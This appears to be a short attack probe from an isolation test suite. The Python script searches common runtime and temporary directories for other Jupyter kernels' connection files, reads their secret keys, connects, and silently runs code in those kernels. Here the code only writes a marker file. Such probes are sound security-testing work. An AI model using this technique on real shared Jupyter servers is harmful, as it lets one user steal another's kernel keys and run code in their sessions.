# Tries: looks for connection files and sockets of other kernels and asks them to run code; the
#   files hold the keys.
# Kind: theft
# Stock: no

# %% last
import glob
import json

from jupyter_client import BlockingKernelClient
from jupyter_core.paths import jupyter_runtime_dir

own = get_ipython().kernel.session.key
places = [jupyter_runtime_dir(), "/tmp", "/run", "/dev/shm", "@home@", "/var/tmp"]
for place in places:
    for path in glob.glob(f"{place}/**/*kernel*.json", recursive=True)[:50]:
        try:
            if json.load(open(path))["key"].encode() == own:
                continue
            print("HARM: another kernel's key")
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("open('attack-litter-kernel', 'w')", silent=True)
        except (OSError, ValueError, KeyError) as error:
            print(path, error)
